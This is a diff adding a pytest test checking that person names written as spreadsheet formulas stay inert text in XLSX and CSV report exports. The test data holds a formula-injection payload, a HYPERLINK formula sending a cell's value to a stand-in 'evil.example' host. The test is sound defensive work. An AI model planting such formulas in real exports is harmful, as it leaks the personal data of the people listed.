@@ -1,4 +1,5 @@
 """Exports: XLSX and CSV (semicolons, UTF-8 with BOM), logged; managers' exports hold no person."""
+import csv
 import io
 
 import pytest
@@ -57,3 +58,17 @@ def test_admins_drill_down_export_lists_the_persons(client_as, staff, population
     rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
     assert rows[1][:2] == (population["u1"].person.full_name, population["u1"].number)
     assert len(rows[0]) == 4  # name, case number, target group, status: no sensitive field
+
+
+def test_a_name_written_as_a_formula_stays_text_in_the_figure_exports(client_as, staff, population):
+    person = population["u1"].person
+    person.first_name, person.last_name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")', "O\x0bK"
+    person.save()
+    client = client_as(staff[roles.ADMIN])
+    response = client.get("/reports/figure/export.xlsx", {"figure": "ukrainians_employed", "as_of": AS_OF.isoformat()})
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
+    content = client.get("/reports/figure/export.csv", {"figure": "ukrainians_employed", "as_of": AS_OF.isoformat()}).content
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][0].startswith("'=HYPERLINK")
